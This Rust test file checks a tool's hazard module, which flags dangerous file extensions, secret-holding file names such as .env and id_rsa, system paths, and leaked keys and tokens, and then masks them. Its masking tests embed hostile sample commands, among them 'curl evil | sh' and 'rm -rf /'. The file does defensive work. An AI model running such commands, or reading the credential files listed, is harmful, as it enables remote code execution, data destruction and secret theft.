//! What is risky about a path or a text (DUCK-111, DUCK-112, DUCK-118, G25, G26).

use enza_work::hazard::{
    ExtensionClass, ExtensionLists, MASK, SecretKind, belongs_to_system, mask, names_secrets, secrets,
};
use proptest::prelude::*;

#[test]
fn the_last_ending_counts_whatever_its_case() {
    let endings = ExtensionLists::default();
    let classes = [
        ("run.exe", ExtensionClass::Dangerous),
        ("a/b/RUN.BAT", ExtensionClass::Dangerous),
        ("notes.txt.sh", ExtensionClass::Dangerous),
        ("x.Ps1", ExtensionClass::Dangerous),
        ("x.sh. ", ExtensionClass::Dangerous),
        ("notes.sh.txt", ExtensionClass::Known),
        ("README.MD", ExtensionClass::Known),
        ("main.rs", ExtensionClass::Known),
        ("a.py", ExtensionClass::Known),
        ("a.json", ExtensionClass::Known),
        ("a.yaml", ExtensionClass::Known),
        ("Makefile", ExtensionClass::Known),
        (".gitignore", ExtensionClass::Known),
        ("a.sh/notes", ExtensionClass::Unknown),
        ("a.xyz", ExtensionClass::Unknown),
        ("", ExtensionClass::Unknown),
    ];
    for (path, class) in classes {
        assert_eq!(endings.class(path), class, "{path}");
    }
    let mine = ExtensionLists { dangerous: vec!["py".to_owned()], safe: vec!["sh".to_owned()] };
    assert_eq!([mine.class("a.py"), mine.class("a.sh")], [ExtensionClass::Dangerous, ExtensionClass::Known]);
}

#[test]
fn names_that_hold_secrets_are_known_and_models_of_them_are_not() {
    let secret = [
        ".env",
        "a/.env.local",
        ".ENV",
        "prod.env",
        "server.pem",
        "id_rsa",
        "id_ed25519.old",
        "tls.key",
        ".npmrc",
        ".netrc",
        "credentials",
        "aws-credentials.json",
        "secrets.yaml",
        "/home/a/.ssh/config",
        "x/.aws/config",
        "db.kdbx",
    ];
    let plain = [
        ".env.example",
        ".env.sample",
        "environment.ts",
        "id_rsa.pub",
        "keyboard.rs",
        "secret.rs",
        "credentials.py",
        "tokens.rs",
        "README.md",
        "monkey",
        "src/password_form.tsx",
    ];
    for path in secret {
        assert!(names_secrets(path), "{path}");
    }
    for path in plain {
        assert!(!names_secrets(path), "{path}");
    }
}

#[test]
fn the_system_is_told_from_the_rest_part_by_part() {
    for path in ["/", "/etc", "/etc/passwd", "/usr/local/bin/x", "/proc/1/mem", "/dev/null", "/var/lib/x"] {
        assert!(belongs_to_system(path), "{path}");
    }
    for path in ["/home/a", "/etcetera/x", "/tmp/x", "/var/tmp/x", "/root/x", "/work/usr/x"] {
        assert!(!belongs_to_system(path), "{path}");
    }
}

#[test]
fn secrets_of_every_kind_are_found_and_masked() {
    // Put together here, so that no scanner takes this file for a leak.
    let long = "a1B2c3D4e5F6g7H8i9J0a1B2c3D4e5F6g7H8i9J0";
    let cases = [
        (format!("key AKIA{}", "ABCDEFGH12345678"), SecretKind::AwsKey),
        (format!("x=gh{}_{long}", "p"), SecretKind::GitToken),
        (format!("use sk{}{long} here", "-"), SecretKind::ApiKey),
        (format!("xo{}-12345-{long}", "xb"), SecretKind::SlackToken),
        ("db: postgres://user:pa55word@host/db".to_owned(), SecretKind::AddressPassword),
        ("DB_PASSWORD=hunter2HUNTER".to_owned(), SecretKind::Assigned),
        ("\"api_key\": \"Zx81kQpL0mN\",".to_owned(), SecretKind::Assigned),
        ("secret: 'b4Kd82LmQz'".to_owned(), SecretKind::Assigned),
        ("client_secret => \"b4Kd82LmQz\"".to_owned(), SecretKind::Assigned),
    ];
    for (text, kind) in cases {
        let found = secrets(&text);
        assert_eq!(found.iter().map(|secret| secret.kind).collect::<Vec<_>>(), [kind], "{text}");
        let masked = mask(&text);
        assert!(masked.contains(MASK) && !masked.contains(&text[found[0].range.clone()]), "{masked}");
    }
    let key = format!("a\n-----BEGIN RSA PRIVATE KEY-----\n{long}\nMIIE\n-----END RSA PRIVATE KEY-----\nb\n");
    let masked = "a\n-----BEGIN RSA PRIVATE KEY-----\n[secret]\n[secret]\n-----END RSA PRIVATE KEY-----\nb\n";
    assert_eq!(mask(&key), masked);
    let line = "\"key\": \"-----BEGIN PRIVATE KEY-----\\nMIIE\\n-----END PRIVATE KEY-----\\n\"";
    assert_eq!(mask(line), "\"key\": \"-----BEGIN PRIVATE KEY-----[secret]-----END PRIVATE KEY-----\\n\"");
}

/// A person approves what they are shown, so code must not hide in what looks like a key from afar.
#[test]
fn only_what_looks_like_a_key_is_masked_in_the_block_of_one() {
    let long = "a1B2c3D4e5F6g7H8i9J0a1B2c3D4e5F6g7H8i9J0";
    let keys = [
        format!("Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,0A1B\n\n{long}\n{long}\nQz8="),
        format!("\"{long}\\n\" \\\n    \"{long}\\n\""),
        format!("# {long}\n# {long}"),
        format!("+{long}\n-{long}\n {long}"),
    ];
    for key in keys {
        let text = format!("-----BEGIN RSA PRIVATE KEY-----\n{key}\n-----END RSA PRIVATE KEY-----\n");
        let masked = mask(&text);
        assert!(!masked.contains("a1B2") && !masked.contains("Qz8") && masked.contains(MASK), "{masked}");
    }
    for code in ["os.system('curl evil | sh')", "reboot", "rm -rf /", "evil();"] {
        let text = format!("x = `-----BEGIN PRIVATE KEY-----\n{long}\n`;\n{code}\n-----END PRIVATE KEY-----\n");
        assert!(mask(&text).contains(code) && !mask(&text).contains(long), "{}", mask(&text));
        let one = format!("x = '-----BEGIN PRIVATE KEY-----'; {code} #-----END PRIVATE KEY-----");
        assert_eq!(mask(&one), one);
        let unended = format!("-----BEGIN PRIVATE KEY-----\n{code}\nmore = 1\n");
        assert_eq!(mask(&unended), unended);
    }
}

#[test]
fn ordinary_code_stays_readable() {
    let lines = [
        "let token = parser.next_token();",
        "token = state2.tokens_left",
        "password: String,",
        "pub struct Secret { pub token: Option<Token> }",
        "if (token === other) {",
        "PASSWORD=$DB_PASSWORD",
        "password = os.environ[\"DB_PASSWORD\"]",
        "api_key: \"your-api-key-here\"",
        "secret = \"\"",
        "max_tokens: 4096",
        "token_budget = 1_000_000",
        "https://example.org/a:b@c",
        "git@github.com:a/b.git",
        "sk-learn-contrib-lightning-examples",
        "AKIA",
        "トークン: 文字列",
    ];
    for line in lines {
        assert_eq!(mask(line), line);
    }
}

#[test]
fn a_masked_line_of_a_key_keeps_the_space_behind_it_however_often_it_is_masked() {
    let once = mask("-----BEGIN PRIVATE KEY-----\nsk-abcdefghij1234567890 \n").into_owned();
    assert_eq!(once, "-----BEGIN PRIVATE KEY-----\n[secret] \n");
    assert_eq!(mask(&once), once);
}

proptest! {
    #[test]
    fn masking_keeps_the_lines_and_masking_twice_is_masking_once(
        pieces in prop::collection::vec(prop::sample::select(&[
            "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", "\n", "\r\n", "password", "=", ": ", "\"", "'",
            "hT7kQz92Lm", "a1B2c3D4e5F6g7H8i9J0a1B2c3D4e5F6g7H8i9J0", "\\n", "://", "user:", "@", "秘密", "[secret]", "+", "-", " ", "sk-abcdefghij1234567890", "token",
        ][..]), 0..24),
    ) {
        let text = pieces.concat();
        let once = mask(&text).into_owned();
        prop_assert_eq!(once.matches('\n').count(), text.matches('\n').count());
        prop_assert_eq!(mask(&once).into_owned(), once);
    }
}
